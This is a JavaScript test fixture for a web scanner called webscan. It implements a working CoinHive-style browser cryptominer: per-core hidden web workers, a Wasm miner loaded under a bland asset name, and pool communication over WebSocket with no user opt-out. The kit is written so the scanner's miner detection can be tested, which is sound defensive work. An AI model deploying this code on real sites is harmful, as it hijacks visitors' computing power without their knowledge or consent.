/* webscan fixture (synthetic, written for webscan): a CoinHive-style miner kit that REALLY mines
 * against the local stub pool. Namespace CH with CONFIG, tab modes and Anonymous(siteKey,
 * {threads, throttle}); one Blob worker per core built from a stringified function; each worker
 * fetches the real Wasm miner (site_fixtures/wasm/worker.wasm) under a bland name, instantiates it
 * with instantiateStreaming, hashes nonces and reports shares that meet the pool's target; the
 * page speaks the CoinHive-style protocol (auth, job, submit, hash_accepted) over a WebSocket.
 * Verdict a crawler must give any page running it: miner. Static verdict of this file: miner. */
(function (window) {
  "use strict";
  var here = (document.currentScript && document.currentScript.src) || location.href;
  var CH = window.CH || {};
  CH.CONFIG = {
    LIB_URL: new URL("/lib/", here).href,
    WASM_URL: new URL("/assets/app-core.wasm", here).href,
    ASMJS_NAME: "ch-asmjs.min.js",
    REQUIRES_AUTH: false,
    WEBSOCKET_SHARDS: [["{{POOL}}/pool/coinhive"]]
  };
  CH.IF_EXCLUSIVE_TAB = "ifExclusiveTab";
  CH.FORCE_EXCLUSIVE_TAB = "forceExclusiveTab";
  CH.FORCE_MULTI_TAB = "forceMultiTab";

  function workerMain() {
    var ex = null, mem = null, job = null, nonce = 0, throttle = 0, timer = 0;
    function hexToBytes(h) {
      var out = new Uint8Array(h.length / 2);
      for (var i = 0; i < out.length; i++) out[i] = parseInt(h.substr(i * 2, 2), 16);
      return out;
    }
    function toHex(bytes) {
      var s = "";
      for (var i = 0; i < bytes.length; i++) s += (bytes[i] < 16 ? "0" : "") + bytes[i].toString(16);
      return s;
    }
    function meetsTarget(hash, target) {
      // CoinHive-style compact target: 4 bytes little-endian against the hash's last 4 bytes.
      var t = hexToBytes(target), h = 0, m = 0;
      for (var i = 3; i >= 0; i--) { h = h * 256 + hash[28 + i]; m = m * 256 + t[i]; }
      return h < m;
    }
    function hashOne() {
      timer = 0;
      if (!ex || !job) return;
      var started = performance.now();
      var used = ex.a(nonce, 1) >>> 0;             // mine(nonce_start, count): nonce at blob[39]
      var hash = new Uint8Array(mem.buffer, ex.d(), 32);
      var n = new Uint8Array([used & 255, (used >>> 8) & 255, (used >>> 16) & 255, used >>> 24]);
      self.postMessage({ type: "hashed" });
      if (meetsTarget(hash, job.target)) {
        self.postMessage({ type: "found", job_id: job.job_id, nonce: toHex(n), result: toHex(hash) });
      }
      nonce = (nonce + 1) >>> 0;
      var spent = performance.now() - started;
      timer = setTimeout(hashOne, throttle > 0 ? spent * throttle / (1 - throttle) : 0);
    }
    self.onmessage = function (e) {
      var m = e.data;
      if (m.type === "init") {
        throttle = m.throttle;
        WebAssembly.instantiateStreaming(fetch(m.wasmUrl), {}).then(function (r) {
          ex = r.instance.exports; mem = ex.memory;
          if (!timer) hashOne();
        });
      } else if (m.type === "job") {
        job = m.job; nonce = m.nonceStart;
        if (ex) new Uint8Array(mem.buffer, ex.c(), 76).set(hexToBytes(job.blob));
        if (ex && !timer) hashOne();
      } else if (m.type === "throttle") {
        throttle = m.value;
      }
    };
  }
  var WORKER_SOURCE = "(" + workerMain.toString() + ")()";

  var Miner = function (siteKey, params) {
    params = params || {};
    this._siteKey = siteKey;
    this._throttle = Math.max(0, Math.min(0.99, params.throttle || 0));
    this._targetNumThreads = params.threads || navigator.hardwareConcurrency || 2;
    this._threads = [];
    this._hashes = 0;
    this._accepted = 0;
    this._socket = null;
    this._running = false;
    this._job = null;
    this._retries = 0;
  };
  Miner.prototype.start = function (mode) {
    if (this._running) return;
    this._running = true;
    this._mode = mode || CH.IF_EXCLUSIVE_TAB;
    var blobUrl = URL.createObjectURL(new Blob([WORKER_SOURCE], { type: "application/javascript" }));
    for (var i = 0; i < this._targetNumThreads; i++) this._addThread(blobUrl);
    this._connect();
  };
  Miner.prototype._addThread = function (blobUrl) {
    var self = this, w = new Worker(blobUrl);
    w.onmessage = function (e) {
      if (e.data.type === "hashed") self._hashes++;
      else if (e.data.type === "found") self._submit(e.data);
    };
    w.postMessage({ type: "init", wasmUrl: CH.CONFIG.WASM_URL, throttle: this._throttle });
    if (this._job) this._sendJob(w, this._threads.length);
    this._threads.push(w);
  };
  Miner.prototype._connect = function () {
    var self = this, shards = CH.CONFIG.WEBSOCKET_SHARDS[0];
    this._socket = new WebSocket(shards[Math.random() * shards.length | 0]);
    this._socket.onopen = function () {
      self._retries = 0;
      self._send("auth", { site_key: self._siteKey, type: "anonymous", user: null, goal: 0 });
    };
    this._socket.onmessage = function (ev) {
      var msg = JSON.parse(ev.data);
      if (msg.type === "job") self._setJob(msg.params);
      else if (msg.type === "hash_accepted") self._accepted = msg.params.hashes;
      else if (msg.type === "authed") self._token = msg.params.token;
    };
    this._socket.onclose = function () {
      if (self._running && self._retries++ < 5) setTimeout(function () { self._connect(); }, 2000);
    };
  };
  Miner.prototype._sendJob = function (w, i) {
    w.postMessage({ type: "job", job: this._job, nonceStart: (i * 0x10000000) >>> 0 });
  };
  Miner.prototype._setJob = function (job) {
    this._job = job;
    for (var i = 0; i < this._threads.length; i++) this._sendJob(this._threads[i], i);
  };
  Miner.prototype._submit = function (r) {
    if (this._socket && this._socket.readyState === 1 && this._job && r.job_id === this._job.job_id) {
      this._socket.send(JSON.stringify({ type: "submit", params: { job_id: r.job_id, nonce: r.nonce, result: r.result } }));
    }
  };
  Miner.prototype._send = function (type, params) {
    this._socket.send(JSON.stringify({ type: type, params: params }));
  };
  Miner.prototype.stop = function () {
    this._running = false;
    for (var i = 0; i < this._threads.length; i++) this._threads[i].terminate();
    this._threads = [];
    if (this._socket) this._socket.close();
  };
  Miner.prototype.isRunning = function () { return this._running; };
  Miner.prototype.setThrottle = function (t) {
    this._throttle = t;
    for (var i = 0; i < this._threads.length; i++) this._threads[i].postMessage({ type: "throttle", value: t });
  };
  Miner.prototype.getThrottle = function () { return this._throttle; };
  Miner.prototype.setNumThreads = function (n) { this._targetNumThreads = n; };
  Miner.prototype.getNumThreads = function () { return this._threads.length; };
  Miner.prototype.getTotalHashes = function () { return this._hashes; };
  Miner.prototype.getAcceptedHashes = function () { return this._accepted; };
  Miner.prototype.getHashesPerSecond = function () { return 0; };
  Miner.prototype.didOptOut = function () { return false; };

  CH.Anonymous = function (siteKey, params) { Miner.call(this, siteKey, params); };
  CH.Anonymous.prototype = Miner.prototype;
  window.CH = CH;
})(window);
